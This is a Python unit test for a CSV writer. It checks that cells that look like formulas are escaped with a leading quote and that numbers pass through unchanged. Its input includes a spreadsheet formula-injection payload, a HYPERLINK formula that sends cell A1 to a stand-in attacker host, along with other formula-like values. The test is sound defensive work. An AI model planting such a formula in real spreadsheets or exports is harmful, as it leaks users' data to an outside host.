"""The one CSV writer (the web app's records index and overlay downloads, `pgolf check --all --csv`): formula-looking
text is neutralised."""
import csv
import io

from evaluator.csv_table import csv_table


def test_formula_cells_are_neutralised_and_numbers_kept():
    rows = [{"label": '=HYPERLINK("http://evil.example/?x="&A1,"x")', "mean": 1.187425671, "n": -3, "note": None},
            {"label": "+SUM(1)", "mean": None, "n": 3, "note": "@cmd\ttab"}]
    read = list(csv.reader(io.StringIO(csv_table(("label", "mean", "n", "note"), rows))))
    assert read[0] == ["label", "mean", "n", "note"]
    assert read[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"x")', "1.18742567", "-3", ""]
    # a negative number is a number, not text that starts like a formula
    assert read[2] == ["'+SUM(1)", "", "3", "'@cmd\ttab"]
